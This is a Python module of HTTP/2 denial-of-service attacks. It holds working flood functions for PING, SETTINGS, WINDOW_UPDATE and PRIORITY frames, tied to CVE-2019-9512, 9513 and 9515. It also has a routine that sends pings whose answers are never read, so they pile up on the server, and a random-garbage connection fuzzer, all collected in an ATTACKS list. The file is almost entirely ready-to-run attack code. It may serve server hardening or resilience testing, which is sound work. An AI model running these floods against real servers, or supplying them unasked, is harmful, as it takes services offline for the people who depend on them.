"""Attacks with the frames that have no call: PING, SETTINGS, WINDOW_UPDATE, PRIORITY, and what is no frame at all."""

import os
import random
import socket
import time

from .wire import PING, PREFACE, SETTINGS, WINDOW_UPDATE, again_and_again, connect, frame, setting

ROUND = 500
PRIORITY = 2


def _flood(address: str, seconds: float, data: bytes) -> str:
    def attack(peer):
        peer.send(data * ROUND)
        frames[0] += ROUND

    frames = [0]
    connections = again_and_again(address, seconds, attack)
    return f"{frames[0]} frames on {connections} connections"


def ping_flood(address: str, seconds: float) -> str:
    """Pings (CVE-2019-9512)."""
    return _flood(address, seconds, frame(PING, 0, 0, b"12345678"))


def settings_flood(address: str, seconds: float) -> str:
    """Settings, each of which wants to be acknowledged (CVE-2019-9515)."""
    return _flood(address, seconds, frame(SETTINGS, 0, 0, setting(4, 65_535)))


def empty_settings_flood(address: str, seconds: float) -> str:
    """Settings without content."""
    return _flood(address, seconds, frame(SETTINGS, 0, 0))


def window_update_flood(address: str, seconds: float) -> str:
    """Window updates of one byte."""
    return _flood(address, seconds, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"))


def priority_flood(address: str, seconds: float) -> str:
    """Priorities, which have no meaning any more (CVE-2019-9513)."""
    return _flood(address, seconds, frame(PRIORITY, 0, 1, b"\0\0\0\3\xff"))


def unread_pings(address: str, seconds: float) -> str:
    """Pings whose answers are never read, so that they pile up at the server."""
    end, sent = time.monotonic() + seconds, 0
    peers: list[socket.socket] = []
    while time.monotonic() < end:
        try:
            if len(peers) < 20:
                peers.append(connect(address))
                peers[-1].sendall(PREFACE + frame(SETTINGS, 0, 0))
            for peer in peers:
                peer.setblocking(False)
                sent += peer.send(frame(PING, 0, 0, b"12345678") * ROUND)
        except BlockingIOError:
            time.sleep(0.001)
        except OSError:
            peers.remove(peer)
            peer.close()
    for peer in peers:
        peer.close()
    return f"{sent >> 10} KiB"


def garbage(address: str, seconds: float) -> str:
    """Bytes that are nothing, with and without the preface of HTTP/2 before them; and HTTP/1.1."""
    dice, count = random.Random(7), 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        beginning = dice.choice([b"", PREFACE, PREFACE + frame(SETTINGS, 0, 0), b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", PREFACE[:10]])
        try:
            with connect(address) as peer:
                peer.settimeout(0.2)
                peer.sendall(beginning + os.urandom(dice.choice([0, 1, 9, 100, 20_000])))
                if dice.random() < 0.5:
                    peer.recv(1000)
        except OSError:
            pass
        count += 1
    return f"{count} connections"


ATTACKS = [
    ping_flood, settings_flood, empty_settings_flood, window_update_flood, priority_flood, unread_pings, garbage]
